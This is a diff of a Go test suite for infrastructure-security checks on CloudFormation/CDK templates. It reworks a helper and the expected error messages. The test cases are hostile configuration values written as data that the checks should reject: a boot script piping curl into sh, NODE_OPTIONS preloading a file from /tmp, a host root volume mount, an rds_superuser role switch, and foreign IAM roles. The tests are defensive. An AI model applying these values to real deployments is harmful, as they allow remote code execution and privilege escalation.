@@ -20,9 +20,9 @@ func TestPromises(t *testing.T) {
 }
 
 // stranger gives a resource a property that no promise reads.
-func stranger(name string, types shapes, value, want string, path ...any) checktest.Breach {
+func stranger(name, value, property string, path ...any) checktest.Breach {
 	return checktest.Breach{
-		Name: strings.TrimPrefix(want, "knows its "), Check: shaped(types), Change: checktest.Set(name, value, path...), Want: "no promise " + want,
+		Name: property, Check: propertiesAreKnown, Change: checktest.Set(name, value, path...), Want: ": nothing proves that the property ",
 	}
 }
 
@@ -30,13 +30,12 @@ const roles = "Data/RolesFunction"
 
 func functionBreaches() []checktest.Breach {
 	return []checktest.Breach{
-		stranger(roles, functions, `{"Variables": {"NODE_OPTIONS": "--require /tmp/x.js"}}`, "knows its Environment", "Environment"),
-		stranger(roles, functions, `["arn:aws:lambda:ap-northeast-2:999999999999:layer:x:1"]`, "knows its Layers", "Layers"),
-		stranger(roles, functions, `"1"`, "knows its Code.S3ObjectVersion", "Code", "S3ObjectVersion"),
-		stranger(roles, functions, `"FATAL"`, "knows its LoggingConfig.ApplicationLogLevel", "LoggingConfig", "ApplicationLogLevel"),
-		stranger(roles, functions, `["arm64", {}]`, "knows its Architectures.1 of this form", "Architectures"),
-		stranger("Data/RolesStatements", functions, `"x"`, "knows its Statements.0.Before", "Statements", 0, "Before"),
-		stranger("Compute/CertificateSearch", functions, `"https://example.com"`, "knows its Endpoint", "Endpoint"),
+		stranger(roles, `{"Variables": {"NODE_OPTIONS": "--require /tmp/x.js"}}`, "Environment", "Environment"),
+		stranger(roles, `["arn:aws:lambda:ap-northeast-2:999999999999:layer:x:1"]`, "Layers", "Layers"),
+		stranger(roles, `"1"`, "Code.S3ObjectVersion", "Code", "S3ObjectVersion"),
+		stranger(roles, `"FATAL"`, "LoggingConfig.ApplicationLogLevel", "LoggingConfig", "ApplicationLogLevel"),
+		stranger("Data/RolesStatements", `"x"`, "Statements.0.Before", "Statements", 0, "Before"),
+		stranger("Compute/CertificateSearch", `"https://example.com"`, "Endpoint", "Endpoint"),
 		{Name: "a handler of ours", Check: functionsAreCalled, Change: checktest.Set("Compute/CertificateFinder", `"evil"`, "Handler"), Want: `with the handler "evil"`},
 		{Name: "a handler of the CDK's", Check: functionsAreCalled, Change: checktest.Set(provider, `"index.handler"`, "Handler"), Want: `with the handler "index.handler"`},
 		{Name: "a language of the CDK's", Check: functionsAreCalled, Change: checktest.Set(provider, `"python3.13"`, "Runtime"), Want: `runs "python3.13"`},
@@ -54,7 +53,7 @@ const provider = "Network/CustomVpcRestrictDefaultSGCustomResourceProviderHandle
 func taskBreaches() []checktest.Breach {
 	const task = "Compute/ServiceApiReleaseTaskDefinition"
 	container := func(value, property string) checktest.Breach {
-		return stranger(task, tasks, value, "knows its ContainerDefinitions.0."+property, "ContainerDefinitions", 0, property)
+		return stranger(task, value, "ContainerDefinitions.0."+property, "ContainerDefinitions", 0, property)
 	}
 	return []checktest.Breach{
 		container(`"0:0"`, "User"),
@@ -62,29 +61,28 @@ func taskBreaches() []checktest.Breach {
 		container(`[{"Hostname": "db", "IpAddress": "192.0.2.1"}]`, "ExtraHosts"),
 		container(`{"CredentialsParameter": "arn:aws:secretsmanager:ap-northeast-2:999999999999:secret:x"}`, "RepositoryCredentials"),
 		container(`["credentialspec:arn:aws:s3:::x/y"]`, "CredentialSpecs"),
-		stranger(task, tasks, `"https://logs.example.com"`, "knows its ContainerDefinitions.0.LogConfiguration.Options.awslogs-endpoint", "ContainerDefinitions", 0, "LogConfiguration", "Options", "awslogs-endpoint"),
-		stranger(task, tasks, `[{"Name": "x", "ValueFrom": "y"}]`, "knows its ContainerDefinitions.0.LogConfiguration.SecretOptions", "ContainerDefinitions", 0, "LogConfiguration", "SecretOptions"),
-		stranger(task, tasks, `[{"HostPath": "/dev/x"}]`, "knows its ContainerDefinitions.0.LinuxParameters.Devices", "ContainerDefinitions", 0, "LinuxParameters", "Devices"),
-		stranger(task, tasks, `{"SourcePath": "/"}`, "knows its Volumes.0.Host", "Volumes", 0, "Host"),
-		stranger(task, tasks, `{"Fn::If": ["x", [], []]}`, "knows its Volumes of this form", "Volumes"),
-		stranger("Security/ServiceImagesRepository", images, `[]`, "knows its ImageTagMutabilityExclusionFilters", "ImageTagMutabilityExclusionFilters"),
-		stranger("Compute/Cluster", tasks, `{"Namespace": "x"}`, "knows its ServiceConnectDefaults", "ServiceConnectDefaults"),
-		stranger("Compute/ServiceApiReleaseService", tasks, `[{"LifecycleStages": ["PRE_SCALE_UP"]}]`, "knows its DeploymentConfiguration.LifecycleHooks", "DeploymentConfiguration", "LifecycleHooks"),
+		stranger(task, `"https://logs.example.com"`, "ContainerDefinitions.0.LogConfiguration.Options.awslogs-endpoint", "ContainerDefinitions", 0, "LogConfiguration", "Options", "awslogs-endpoint"),
+		stranger(task, `[{"Name": "x", "ValueFrom": "y"}]`, "ContainerDefinitions.0.LogConfiguration.SecretOptions", "ContainerDefinitions", 0, "LogConfiguration", "SecretOptions"),
+		stranger(task, `[{"HostPath": "/dev/x"}]`, "ContainerDefinitions.0.LinuxParameters.Devices", "ContainerDefinitions", 0, "LinuxParameters", "Devices"),
+		stranger(task, `{"SourcePath": "/"}`, "Volumes.0.Host", "Volumes", 0, "Host"),
+		stranger("Security/ServiceImagesRepository", `[]`, "ImageTagMutabilityExclusionFilters", "ImageTagMutabilityExclusionFilters"),
+		stranger("Compute/Cluster", `{"Namespace": "x"}`, "ServiceConnectDefaults", "ServiceConnectDefaults"),
+		stranger("Compute/ServiceApiReleaseService", `[{"LifecycleStages": ["PRE_SCALE_UP"]}]`, "DeploymentConfiguration.LifecycleHooks", "DeploymentConfiguration", "LifecycleHooks"),
 	}
 }
 
 func databaseBreaches() []checktest.Breach {
 	const group, parameters, token = "Data/ProxyProxyTargetGroup", "Data/AuroraParameterGroup", "Data/RedisAuthToken"
 	return []checktest.Breach{
-		stranger(group, proxy, `"SET ROLE rds_superuser"`, "knows its ConnectionPoolConfigurationInfo.InitQuery", "ConnectionPoolConfigurationInfo", "InitQuery"),
-		stranger(group, proxy, `["EXCLUDE_VARIABLE_SETS"]`, "knows its ConnectionPoolConfigurationInfo.SessionPinningFilters", "ConnectionPoolConfigurationInfo", "SessionPinningFilters"),
-		stranger("Data/Proxy", proxy, `"x"`, "knows its Auth.0.Description", "Auth", 0, "Description"),
-		stranger(parameters, database, `"all"`, "knows its Parameters.log_statement", "Parameters", "log_statement"),
-		stranger(parameters, database, `"pg_tle"`, "knows its Parameters.shared_preload_libraries", "Parameters", "shared_preload_libraries"),
-		stranger(parameters, database, `"md5"`, "knows its Parameters.password_encryption", "Parameters", "password_encryption"),
-		stranger(token, cache, `[{"Region": "us-east-1"}]`, "knows its ReplicaRegions", "ReplicaRegions"),
-		stranger(token, cache, `"abcdef"`, "knows its GenerateSecretString.ExcludeCharacters", "GenerateSecretString", "ExcludeCharacters"),
-		stranger(token, cache, `true`, "knows its GenerateSecretString.ExcludeUppercase", "GenerateSecretString", "ExcludeUppercase"),
+		stranger(group, `"SET ROLE rds_superuser"`, "ConnectionPoolConfigurationInfo.InitQuery", "ConnectionPoolConfigurationInfo", "InitQuery"),
+		stranger(group, `["EXCLUDE_VARIABLE_SETS"]`, "ConnectionPoolConfigurationInfo.SessionPinningFilters", "ConnectionPoolConfigurationInfo", "SessionPinningFilters"),
+		stranger("Data/Proxy", `"x"`, "Auth.0.Description", "Auth", 0, "Description"),
+		stranger(parameters, `"all"`, "Parameters.log_statement", "Parameters", "log_statement"),
+		stranger(parameters, `"pg_tle"`, "Parameters.shared_preload_libraries", "Parameters", "shared_preload_libraries"),
+		stranger(parameters, `"md5"`, "Parameters.password_encryption", "Parameters", "password_encryption"),
+		stranger(token, `[{"Region": "us-east-1"}]`, "ReplicaRegions", "ReplicaRegions"),
+		stranger(token, `"abcdef"`, "GenerateSecretString.ExcludeCharacters", "GenerateSecretString", "ExcludeCharacters"),
+		stranger(token, `true`, "GenerateSecretString.ExcludeUppercase", "GenerateSecretString", "ExcludeUppercase"),
 	}
 }
 
@@ -93,9 +91,9 @@ func hostBreaches() []checktest.Breach {
 	return []checktest.Breach{
 		{Name: "a script at boot", Check: hostRunsNothing, Change: checktest.Set(host, `{"Fn::Base64": "#!/bin/bash\ncurl https://example.com | sh"}`, "UserData"), Want: "when it boots it runs"},
 		{Name: "a script that is encoded", Check: hostRunsNothing, Change: checktest.Set(host, `"IyEvYmluL2Jhc2g="`, "UserData"), Want: "when it boots it runs"},
-		{Name: "more hops to its credentials", Check: hostRunsNothing, Change: checktest.Set(host, `64`, "MetadataOptions", "HttpPutResponseHopLimit"), Want: "its MetadataOptions.HttpPutResponseHopLimit"},
-		{Name: "a disk of somebody", Check: hostRunsNothing, Change: checktest.Set(host, `"snap-1"`, "BlockDeviceMappings", 0, "Ebs", "SnapshotId"), Want: "its BlockDeviceMappings.0.Ebs.SnapshotId"},
-		{Name: "a document with more", Check: hostRunsNothing, Change: checktest.Set("Data/Tunnel", `[{"Key": "SourceUrl", "Values": ["s3://x"]}]`, "Attachments"), Want: "its Attachments"},
+		{Name: "more hops to its credentials", Check: propertiesAreKnown, Change: checktest.Set(host, `64`, "MetadataOptions", "HttpPutResponseHopLimit"), Want: ": nothing proves that the property "},
+		{Name: "a disk of somebody", Check: propertiesAreKnown, Change: checktest.Set(host, `"snap-1"`, "BlockDeviceMappings", 0, "Ebs", "SnapshotId"), Want: ": nothing proves that the property "},
+		{Name: "a document with more", Check: propertiesAreKnown, Change: checktest.Set("Data/Tunnel", `[{"Key": "SourceUrl", "Values": ["s3://x"]}]`, "Attachments"), Want: ": nothing proves that the property "},
 		{Name: "what cfn-init runs", Check: knownAttributes, Change: func(t *testing.T, p *check.Platform) {
 			t.Helper()
 			checktest.Find(t, p, host).Metadata["AWS::CloudFormation::Init"] = map[string]any{}
@@ -127,9 +125,9 @@ func definitionBreaches() []checktest.Breach {
 		{Name: "another machine", Check: machinesOfTheSettings, Change: checktest.Put("Security/Other", "AWS::StepFunctions::StateMachine", `{}`), Want: "found 4 of AWS::StepFunctions::StateMachine, want 3"},
 		{Name: "a machine too many for the settings", Check: machinesOfTheSettings, Change: checktest.Settings(func(e *config.Environment) { e.Alerts.SlackWebhookSecret = "" }), Want: "found 3 of AWS::StepFunctions::StateMachine, want 2"},
 		{Name: "a machine without a job", Check: machinesOfTheSettings, Kinds: true, Change: checktest.Settings(func(e *config.Environment) { e.Services = nil }), Want: "found 2 of AWS::StepFunctions::StateMachine, want 1"},
-		stranger("Security/FindingsMailPipe", starting, `{"HttpParameters": {}}`, "knows its EnrichmentParameters", "EnrichmentParameters"),
-		stranger("Security/FindingsScanFinished", starting, `{"RunCommandTargets": []}`, "knows its Targets.0.RunCommandParameters", "Targets", 0, "RunCommandParameters"),
-		stranger(release, starting, `{"x": "y"}`, "knows its DefinitionSubstitutions", "DefinitionSubstitutions"),
+		stranger("Security/FindingsMailPipe", `{"HttpParameters": {}}`, "EnrichmentParameters", "EnrichmentParameters"),
+		stranger("Security/FindingsScanFinished", `{"RunCommandTargets": []}`, "Targets.0.RunCommandParameters", "Targets", 0, "RunCommandParameters"),
+		stranger(release, `{"x": "y"}`, "DefinitionSubstitutions", "DefinitionSubstitutions"),
 	}
 }
 
@@ -187,8 +185,8 @@ func additionBreaches() []checktest.Breach {
 		{Name: "a team's own secret", Check: oneSecret, Change: checktest.Changes(
 			checktest.Put("Data/AdditionsOther", "AWS::SecretsManager::Secret", `{}`), checktest.Put("Data/Third", "AWS::SecretsManager::Secret", `{}`), added("Data/AdditionsOther"),
 		), Want: "found 2 of secret"},
-		{Name: "a function that says it is a team's", Check: shaped(functions), Change: checktest.Changes(checktest.Set(roles, `{}`, "Environment"), added(roles)), Want: "no promise knows its Environment"},
-		{Name: "parameters that say they are a team's", Check: shaped(database), Change: checktest.Changes(checktest.Set("Data/AuroraParameterGroup", `"all"`, "Parameters", "log_statement"), added("Data/AuroraParameterGroup")), Want: "no promise knows its Parameters.log_statement"},
+		{Name: "a function that says it is a team's", Check: propertiesAreKnown, Change: checktest.Changes(checktest.Set(roles, `{}`, "Environment"), added(roles)), Want: ": nothing proves that the property "},
+		{Name: "parameters that say they are a team's", Check: propertiesAreKnown, Change: checktest.Changes(checktest.Set("Data/AuroraParameterGroup", `"all"`, "Parameters", "log_statement"), added("Data/AuroraParameterGroup")), Want: ": nothing proves that the property "},
 		{Name: "a host that says it is a team's", Check: hostRunsNothing, Change: checktest.Changes(checktest.Set("Data/Bastion", `"x"`, "UserData"), added("Data/Bastion")), Want: "when it boots it runs"},
 		{Name: "what runs a document", Check: additionsLeaveItAlone, Change: checktest.Changes(checktest.Put("Data/AdditionsOther", "AWS::SSM::Association", document), added("Data/AdditionsOther")), Want: "Data/AdditionsOther refers to Data/Tunnel"},
 		{Name: "what starts a machine", Check: additionsLeaveItAlone, Change: checktest.Changes(checktest.Put("Security/AdditionsOther", "AWS::Events::Rule", `{"Targets": [`+machine+`]}`), added("Security/AdditionsOther")), Want: "Security/AdditionsOther refers to Security/FindingsRelay"},
@@ -204,8 +202,8 @@ func deploymentBreaches() []checktest.Breach {
 		return checktest.Stack("Compute", func(s *assembly.Stack) { s.Deployment[key] = value })
 	}
 	return []checktest.Breach{
-		{Name: "parameters beside the template", Check: deployedAsItStands, Change: manifest("parameters", map[string]any{"ServiceImage": "evil"}), Want: "knows its parameters in the manifest"},
-		{Name: "a topic for the events of the stack", Check: deployedAsItStands, Change: manifest("notificationArns", []any{"arn:aws:sns:ap-northeast-2:999999999999:x"}), Want: "knows its notificationArns in the manifest"},
+		{Name: "parameters beside the template", Check: deployedAsItStands, Change: manifest("parameters", map[string]any{"ServiceImage": "evil"}), Want: "parameters in the manifest"},
+		{Name: "a topic for the events of the stack", Check: deployedAsItStands, Change: manifest("notificationArns", []any{"arn:aws:sns:ap-northeast-2:999999999999:x"}), Want: "notificationArns in the manifest"},
 		{Name: "another role of the bootstrap", Check: deployedAsItStands, Change: manifest("assumeRoleArn", "arn:${AWS::Partition}:iam::123456789012:role/cdk-hnb659fds-cfn-exec-role-123456789012-ap-northeast-2"), Want: "want the deploy-role"},
 		{Name: "a role of somebody", Check: deployedAsItStands, Change: manifest("cloudFormationExecutionRoleArn", "arn:aws:iam::999999999999:role/x"), Want: "want the cfn-exec-role"},
 	}
